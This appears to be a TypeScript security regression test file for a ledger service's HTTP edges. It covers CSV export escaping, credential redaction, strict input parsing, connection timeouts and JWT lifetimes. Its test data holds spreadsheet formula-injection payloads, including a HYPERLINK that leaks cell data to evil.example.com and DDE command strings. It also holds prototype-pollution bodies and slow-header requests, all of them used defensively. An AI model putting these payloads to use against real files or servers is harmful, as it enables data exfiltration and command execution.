import { randomUUID } from 'node:crypto';
import type { Server } from 'node:http';
import { type AddressInfo, connect, type Socket } from 'node:net';

import type { EventStore } from '@ledger/event-store';
import { EVENT_STORE } from '@ledger/ledger';
import { JwtService } from '@nestjs/jwt';
import { parse as parseCsv } from 'csv-parse/sync';
import { type Client, createClient } from 'graphql-ws';
import { WebSocket } from 'ws';

import { cli } from '../e2e/support/cli';
import { expectProblem, startSeeded, TEST_JWT_SECRET, TestApp, tokenFor, winClient } from '../e2e/support/test-app';
import { recordFigures } from './support/figures';

/** What an outside review found at the edges of the HTTP server: CSV cells, credentials in URLs, odd keys and numbers, slow and expired clients. */

const FORMULAS = [
  '=HYPERLINK("http://evil.example.com/?leak="&A1,"click")',
  "=cmd|'/Ccalc'!A0",
  '@SUM(1+1)*cmd|"/Ccalc"!A0',
  '+1+1',
  '-1+1',
  '\tTAB',
  '\rCR',
];

async function listening(app: TestApp): Promise<number> {
  const server = app.app.getHttpServer() as Server;
  if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

/** Resolves with how long the socket stayed open, and what the server wrote before closing it. */
function closed(socket: Socket, started = Date.now()): Promise<{ afterMs: number; answer: string }> {
  let answer = '';
  socket.on('data', (chunk: Buffer) => (answer += chunk.toString()));
  return new Promise((resolve) => socket.once('close', () => resolve({ afterMs: Date.now() - started, answer })));
}

const sign = (claims: Record<string, unknown>) => new JwtService({ secret: TEST_JWT_SECRET }).sign(claims, { algorithm: 'HS256' });
const nowSeconds = () => Math.floor(Date.now() / 1000);

describe('HTTP hardening against an outside review', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startSeeded('acme');
  });
  afterAll(() => app.stop());

  describe('CSV formula injection (item 4)', () => {
    it('refuses a correlation id outside the safe alphabet with 400 naming the header, and appends nothing', async () => {
      const head = await app.headPosition();
      for (const correlationId of [...FORMULAS.filter((formula) => !/^[\t\r]/.test(formula)), 'a b', 'ok|pipe', 'x'.repeat(129)]) {
        const answer = await app.http
          .post('/v1/clients/acme/orders')
          .set('X-Correlation-Id', correlationId)
          .send({ orderId: `o-${randomUUID()}`, total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' });
        expectProblem(answer, 400, 'VALIDATION_FAILED');
        expect(answer.body.errors).toEqual([expect.objectContaining({ field: 'X-Correlation-Id' })]);
      }
      expect(await app.headPosition()).toBe(head);
      await app.http
        .post('/v1/clients/acme/orders')
        .set('X-Correlation-Id', 'batch-2024.06:run_7')
        .send({ orderId: 'o-safe-corr', total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' })
        .expect(201);
    });

    it('refuses an unsafe correlation id given as a GraphQL option too', async () => {
      const answer = await app.http.post('/graphql').send({
        query:
          'mutation ($input: PlaceReorderInput!, $options: CommandOptions) { placeReorder(clientId: "acme", input: $input, options: $options) { position } }',
        variables: {
          input: { orderId: 'o-gql-formula', total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' },
          options: { correlationId: '=1+1' },
        },
      });
      expect(answer.body.errors[0].extensions.code).toBe('VALIDATION_FAILED');
    });

    it('writes every cell of the event export that starts like a formula quoted and prefixed with a quote (events stored before the rule included)', async () => {
      const store = app.app.get<EventStore>(EVENT_STORE);
      for (const [index, formula] of FORMULAS.entries()) {
        await store.append(
          `employee-legacy-${index}`,
          [
            {
              eventId: randomUUID(),
              type: 'EmployeeJoined',
              schemaVersion: 1,
              occurredAt: '2024-01-02T08:00:00.000Z',
              data: { employeeId: `legacy-${index}`, name: 'Legacy', department: 'sales', role: 'rep' },
              metadata: { actor: { type: 'user', id: 'old-ledger', role: 'admin' }, correlationId: formula, causationId: formula },
            },
          ],
          { expectedRevision: 'no_stream' },
        );
      }
      const answer = await app.http
        .get('/v1/events')
        .set('Accept', 'text/csv')
        .buffer(true)
        .parse((response, done) => {
          let text = '';
          response.on('data', (chunk: Buffer) => (text += chunk.toString()));
          response.on('end', () => done(null, text));
        });
      const text = answer.body as string;
      const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
      const legacy = rows.filter((row) => row.streamId.startsWith('employee-legacy-'));
      expect(legacy.map((row) => row.correlationId)).toEqual(FORMULAS.map((formula) => `'${formula}`));
      expect(legacy.map((row) => row.causationId)).toEqual(FORMULAS.map((formula) => `'${formula}`));
      // Quoted as well as prefixed, so no spreadsheet splits or evaluates the cell.
      for (const formula of FORMULAS) expect(text).toContain(`"'${formula.replace(/"/g, '""')}"`);
      // Numbers stay numbers, JSON stays JSON: a round trip through the import still reads the export.
      expect(rows.every((row) => /^\d+$/.test(row.position) && row.data.startsWith('{'))).toBe(true);
    });

    it("neutralises the handoff reason in the CLI's replay --format csv", async () => {
      await winClient(app, 'csv-co');
      await app.http
        .post('/v1/clients/csv-co/handoff')
        .send({ toManagerId: 'mgr-carl', reason: '=HYPERLINK("http://evil.example.com","x")' })
        .expect(201);
      const { stdout, code } = await cli(app.config.storage, 'replay', '--projection', 'handoffs', '--format', 'csv');
      expect(code).toBe(0);
      const rows = parseCsv(stdout, { columns: true }) as Record<string, string>[];
      expect(rows.find((row) => row.clientId === 'csv-co')?.reason).toBe(`'=HYPERLINK("http://evil.example.com","x")`);
      expect(stdout).toContain(`"'=HYPERLINK(""http://evil.example.com"",""x"")"`);
    }, 60_000);
  });

  describe('credentials in the query string (item 13)', () => {
    it('never echoes them in a problem: instance and detail carry REDACTED instead', async () => {
      const answers = [
        await app.http.get('/v1/clients/nobody?access_token=SECRET-1&status=active'),
        await app.http.get('/v1/nowhere?token=SECRET-2'),
        await app.anonymous.get('/v1/clients?API_KEY=SECRET-3&limit=5'),
        await app.http.get(
          '/v1/events?limit=0&Authorization=Bearer%20SECRET-4&jwt=SECRET-5&password=SECRET-6&client_secret=SECRET-7&key=SECRET-8',
        ),
      ];
      for (const answer of answers) {
        expect(answer.status).toBeGreaterThanOrEqual(400);
        expect(answer.text).not.toMatch(/SECRET/);
        expect(answer.body.instance).toMatch(/REDACTED/);
      }
      expect(answers[0].body.instance).toBe('/v1/clients/nobody?access_token=REDACTED&status=active');
      expect(answers[2].body.instance).toBe('/v1/clients?API_KEY=REDACTED&limit=5');
    });
  });

  describe('odd keys and numbers (item 14)', () => {
    it.each(['__proto__', 'constructor', 'prototype'])(
      'refuses a body with a %s key like any unknown key: 400 naming it, nothing appended',
      async (key) => {
        const head = await app.headPosition();
        const topLevel = await app.http
          .post('/v1/employees')
          .set('Content-Type', 'application/json')
          .send(`{"employeeId":"odd-keys","name":"Odd","department":"sales","role":"rep","${key}":{"admin":true}}`);
        expectProblem(topLevel, 400, 'VALIDATION_FAILED');
        expect(topLevel.body.errors).toEqual([
          { field: key, path: key, code: 'UNKNOWN_FIELD', params: {}, message: `property ${key} should not exist` },
        ]);
        const nested = await app.http
          .post('/v1/clients')
          .set('Content-Type', 'application/json')
          .send(
            `{"clientId":"odd-co","leadId":"lead-of-acme","repId":"rep-anna","firstOrder":{"orderId":"x","total":{"amount":1,"currency":"EUR","${key}":{"polluted":1}}}}`,
          );
        expectProblem(nested, 400, 'VALIDATION_FAILED');
        expect(nested.body.errors).toEqual([
          {
            field: `firstOrder.total.${key}`,
            path: `firstOrder.total.${key}`,
            code: 'UNKNOWN_FIELD',
            params: {},
            message: `property ${key} should not exist`,
          },
        ]);
        expectProblem(await app.http.get(`/v1/clients?${key}=1`), 400, 'VALIDATION_FAILED');
        expect(await app.headPosition()).toBe(head);
        expect(({} as Record<string, unknown>).admin).toBeUndefined();
      },
    );

    it.each(['0x10', '1e1', ' 16', '16 ', '+16', '16.0', '0b1', '', '99999999999999999999'])(
      'refuses the integer query parameter %j: only plain decimal digits',
      async (value) => {
        for (const query of [
          `/v1/events?limit=${encodeURIComponent(value)}`,
          `/v1/events?after=${encodeURIComponent(value)}`,
          `/v1/clients?limit=${encodeURIComponent(value)}`,
          `/v1/retention?atRiskDays=${encodeURIComponent(value)}`,
          `/v1/clients?minPosition=${encodeURIComponent(value)}`,
        ]) {
          const answer = await app.http.get(query);
          expectProblem(answer, 400, 'VALIDATION_FAILED');
        }
      },
    );

    it('still reads plain decimal integers', async () => {
      expect((await app.http.get('/v1/events?limit=16&after=0').expect(200)).body.events.length).toBeGreaterThan(0);
      await app.http.get('/v1/clients?limit=007').expect(200);
      await app.http.get('/v1/retention?atRiskDays=30').expect(200);
    });
  });
});

describe('slow and idle connections (item 14)', () => {
  let app: TestApp;
  let port: number;
  beforeAll(async () => {
    app = await TestApp.start({ env: { LEDGER_HEADERS_TIMEOUT_MS: '1000', LEDGER_MAX_CONNECTIONS: '20' } });
    port = await listening(app);
  });
  afterAll(() => app.stop());

  it('closes a connection that sends its headers a line at a time with 408 once the headers timeout passes', async () => {
    const started = Date.now();
    const socket = connect(port, '127.0.0.1');
    const ended = closed(socket, started);
    socket.write('GET /health HTTP/1.1\r\nHost: ledger\r\n');
    const drip = setInterval(() => socket.writable && socket.write(`X-Slow-${Date.now()}: 1\r\n`), 200);
    const { afterMs, answer } = await ended;
    clearInterval(drip);
    expect(answer).toMatch(/^HTTP\/1\.1 408/);
    expect(afterMs).toBeGreaterThanOrEqual(900);
    expect(afterMs).toBeLessThan(3_000);
    const silent = connect(port, '127.0.0.1');
    const silentClosed = await closed(silent);
    expect(silentClosed.afterMs).toBeLessThan(3_000);
    recordFigures('slow-headers', {
      headersTimeoutMs: 1000,
      slowHeadersClosedAfterMs: afterMs,
      silentConnectionClosedAfterMs: silentClosed.afterMs,
    });
  });

  it('refuses connections beyond LEDGER_MAX_CONNECTIONS at once, and serves again when they go', async () => {
    const held = await Promise.all(
      Array.from(
        { length: 20 },
        () =>
          new Promise<Socket>((resolve) => {
            const socket = connect(port, '127.0.0.1', () => {
              socket.write('GET /health HTTP/1.1\r\nHost: ledger\r\n');
              resolve(socket);
            });
          }),
      ),
    );
    await new Promise((resolve) => setTimeout(resolve, 100));
    const extra = connect(port, '127.0.0.1');
    const refused = await closed(extra);
    expect(refused.answer).toBe('');
    expect(refused.afterMs).toBeLessThan(500);
    for (const socket of held) socket.destroy();
    await new Promise((resolve) => setTimeout(resolve, 100));
    await app.anonymous.get('/health').expect(200);
    recordFigures('max-connections', { maxConnections: 20, extraConnectionClosedAfterMs: refused.afterMs });
  });
});

describe('token lifetimes in production (item 8)', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await TestApp.start({ env: { NODE_ENV: 'production' } });
  });
  afterAll(() => app.stop());

  const call = (token: string) => app.anonymous.get('/v1/clients').set('Authorization', `Bearer ${token}`);

  it('refuses a token without exp', async () => {
    const answer = await call(sign({ sub: 'test-admin', role: 'admin' }));
    expectProblem(answer, 401, 'UNAUTHENTICATED');
    expect(answer.body.detail).toMatch(/exp/);
  });

  it('refuses a token living longer than LEDGER_JWT_MAX_LIFETIME_SECONDS (24 h by default), measured from iat or, without iat, from now', async () => {
    const tenYears = 10 * 365 * 24 * 3600;
    expectProblem(
      await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds(), exp: nowSeconds() + tenYears })),
      401,
      'UNAUTHENTICATED',
    );
    expectProblem(await call(sign({ sub: 'test-admin', role: 'admin', exp: nowSeconds() + 25 * 3600 })), 401, 'UNAUTHENTICATED');
    // Issued long ago, with a long life: still over the cap even though little of it is left.
    expectProblem(
      await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds() - tenYears, exp: nowSeconds() + 60 })),
      401,
      'UNAUTHENTICATED',
    );
    await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds(), exp: nowSeconds() + 23 * 3600 })).expect(200);
    await call(tokenFor('admin')).expect(200);
  });

  it('refuses a token issued in the future beyond the clock skew', async () => {
    expectProblem(
      await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds() + 3600, exp: nowSeconds() + 7200 })),
      401,
      'UNAUTHENTICATED',
    );
    await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds() + 60, exp: nowSeconds() + 3600 })).expect(200);
  });

  it('takes the cap from the configuration', async () => {
    const short = await TestApp.start({ env: { NODE_ENV: 'production', LEDGER_JWT_MAX_LIFETIME_SECONDS: '600' } });
    try {
      expectProblem(await short.anonymous.get('/v1/clients').set('Authorization', `Bearer ${tokenFor('admin')}`), 401, 'UNAUTHENTICATED');
      await short.anonymous
        .get('/v1/clients')
        .set('Authorization', `Bearer ${tokenFor('admin', 'test-admin', 300)}`)
        .expect(200);
    } finally {
      await short.stop();
    }
  });
});

describe('subscriptions end with their token (item 9)', () => {
  let app: TestApp;
  let wsUrl: string;
  const clients: Client[] = [];
  beforeAll(async () => {
    app = await startSeeded('acme');
    wsUrl = `ws://127.0.0.1:${await listening(app)}/graphql`;
  });
  afterAll(async () => {
    for (const client of clients) await client.dispose();
    await app.stop();
  });

  it('closes the socket with 4403 when the token expires, and delivers nothing once closed', async () => {
    const expiresAt = (nowSeconds() + 2) * 1000;
    const token = sign({ sub: 'test-auditor', role: 'auditor', exp: expiresAt / 1000 });
    let closedAt: number | undefined;
    let closeCode: number | undefined;
    const client = createClient({
      url: wsUrl,
      webSocketImpl: WebSocket,
      connectionParams: { authorization: `Bearer ${token}` },
      retryAttempts: 0,
      lazy: true,
      on: {
        closed: (event) => {
          closedAt ??= Date.now();
          closeCode ??= (event as { code: number }).code;
        },
      },
    });
    clients.push(client);
    const delivered: { at: number }[] = [];
    const done = new Promise<void>((resolve) => {
      client.subscribe(
        { query: 'subscription { eventAppended(types: ["ReorderPlaced"]) { position } }' },
        { next: () => delivered.push({ at: Date.now() }), error: () => resolve(), complete: () => resolve() },
      );
    });
    // Orders keep coming before and after the expiry.
    for (let index = 0; Date.now() < expiresAt + 1_500; index += 1) {
      await app.http
        .post('/v1/clients/acme/orders')
        .send({ orderId: `o-exp-${index}`, total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' })
        .expect(201);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    await done;
    expect(delivered.length).toBeGreaterThan(0);
    expect(closeCode).toBe(4403);
    const closedAfterExpiryMs = closedAt! - expiresAt;
    expect(closedAfterExpiryMs).toBeGreaterThanOrEqual(0);
    // Within a second even on a busy machine (before the fix the socket stayed open for good).
    expect(closedAfterExpiryMs).toBeLessThan(1_000);
    expect(delivered.filter(({ at }) => at > closedAt!)).toEqual([]);
    const deliveredAfterExpiry = delivered.filter(({ at }) => at > expiresAt).length;
    recordFigures('subscription-token-expiry', {
      closeCode,
      closedAfterExpiryMs,
      deliveredBeforeExpiry: delivered.length - deliveredAfterExpiry,
      deliveredAfterExpiry,
    });
  });
});
